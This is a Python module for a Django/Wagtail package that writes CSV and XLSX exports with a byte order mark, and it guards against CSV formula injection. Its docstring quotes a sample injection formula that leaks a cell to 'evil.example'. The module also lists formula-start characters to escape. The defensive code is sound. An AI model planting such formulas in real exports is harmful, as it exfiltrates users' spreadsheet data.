"""Writing rows as CSV or XLSX: the one export path of the package.

- CSV is UTF-8 with a byte order mark: without it Excel on Windows reads the file in the ANSI
  code page (Windows-1258 on Vietnamese Windows) and "Báo cáo" comes out as "BÃ¡o cÃ¡o".
- A text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return (or
  their full-width forms) is written with a leading ``'`` in CSV, as OWASP's "CSV injection"
  advice says: a spreadsheet program would otherwise run it as a formula, and exports carry
  text typed by readers and editors (``=HYPERLINK("http://evil.example/?x="&A1,"Bấm")``).
- XLSX stores every text cell as text (never a formula), without the characters XML forbids.
"""

import csv
import datetime
import io
from collections.abc import Iterable

from django.http import HttpResponse
from django.utils import timezone
from django.utils.encoding import force_str

UTF8_BOM = "\ufeff"
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CONTENT_TYPES = {"csv": CSV_CONTENT_TYPE, "xlsx": XLSX_CONTENT_TYPE}
#: What makes a spreadsheet program read a cell as a formula (OWASP, plus full-width forms).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def escape_formula(value):
    """``value`` as a CSV cell that no spreadsheet program runs as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def _csv_cell(value):
    if value is None:
        return ""
    if isinstance(value, datetime.datetime):
        value = timezone.localtime(value) if timezone.is_aware(value) else value
        return f"{value:%d/%m/%Y %H:%M}"
    if isinstance(value, datetime.date):
        return f"{value:%d/%m/%Y}"
    if isinstance(value, bool | int | float):
        return value
    return escape_formula(force_str(value))


class _Echo:
    def write(self, value):
        return value


def stream_csv(headings, rows: Iterable):
    """The CSV text, piece by piece: the byte order mark, the headings, then one line a row."""
    writer = csv.writer(_Echo())
    yield UTF8_BOM
    yield writer.writerow([_csv_cell(heading) for heading in headings])
    for row in rows:
        yield writer.writerow([_csv_cell(value) for value in row])


def csv_bytes(headings, rows):
    return "".join(stream_csv(headings, rows)).encode("utf-8")


def _xlsx_cell(sheet, value):
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    if isinstance(value, datetime.datetime):
        if timezone.is_aware(value):
            value = timezone.make_naive(value)
        cell = WriteOnlyCell(sheet, value)
        cell.number_format = "dd/mm/yyyy hh:mm"
        return cell
    if isinstance(value, datetime.date):
        cell = WriteOnlyCell(sheet, value)
        cell.number_format = "dd/mm/yyyy"
        return cell
    if value is None or isinstance(value, bool | int | float):
        return WriteOnlyCell(sheet, value)
    cell = WriteOnlyCell(sheet, ILLEGAL_CHARACTERS_RE.sub("", force_str(value)))
    cell.data_type = "s"  # text, even when it starts with "="
    return cell


def write_xlsx(headings, rows, output, title="Sheet1"):
    """An XLSX workbook of one sheet written to the file object ``output``."""
    from openpyxl import Workbook

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title=title[:31])
    sheet.append([_xlsx_cell(sheet, heading) for heading in headings])
    for row in rows:
        sheet.append([_xlsx_cell(sheet, value) for value in row])
    workbook.save(output)


def xlsx_bytes(headings, rows, title="Sheet1"):
    output = io.BytesIO()
    write_xlsx(headings, rows, output, title=title)
    return output.getvalue()


def spreadsheet_response(file_format, headings, rows, filename):
    """A download of ``rows`` as ``file_format`` ("csv" or "xlsx") named ``filename`` (without
    its extension), built in memory: cap the rows you pass."""
    if file_format == "csv":
        response = HttpResponse(csv_bytes(headings, rows), content_type=CSV_CONTENT_TYPE)
    elif file_format == "xlsx":
        response = HttpResponse(xlsx_bytes(headings, rows), content_type=XLSX_CONTENT_TYPE)
    else:
        raise ValueError(f"Unknown spreadsheet format {file_format!r}")
    response["Content-Disposition"] = f'attachment; filename="{filename}.{file_format}"'
    return response


class SpreadsheetExportMixin:
    """For a Wagtail view with ``list_export`` (``IndexView``, ``ReportView``, a viewset's
    index): its "Download CSV/XLSX" buttons write through this module, so every admin export
    has the byte order mark, the formula escaping and text-only XLSX cells."""

    def _export_rows(self, queryset, export_format):
        for item in queryset:
            yield [
                self.preprocess_field_value(name, value, export_format)
                for name, value in self.to_row_dict(item).items()
            ]

    def _export_headings(self, queryset):
        return [self.get_heading(queryset, name) for name in self.list_export]

    def stream_csv(self, queryset):
        return stream_csv(self._export_headings(queryset), self._export_rows(queryset, "csv"))

    def write_csv_response(self, queryset):
        response = super().write_csv_response(queryset)
        response["Content-Type"] = CSV_CONTENT_TYPE
        return response

    def write_xlsx(self, queryset, output):
        write_xlsx(self._export_headings(queryset), self._export_rows(queryset, "xlsx"), output)
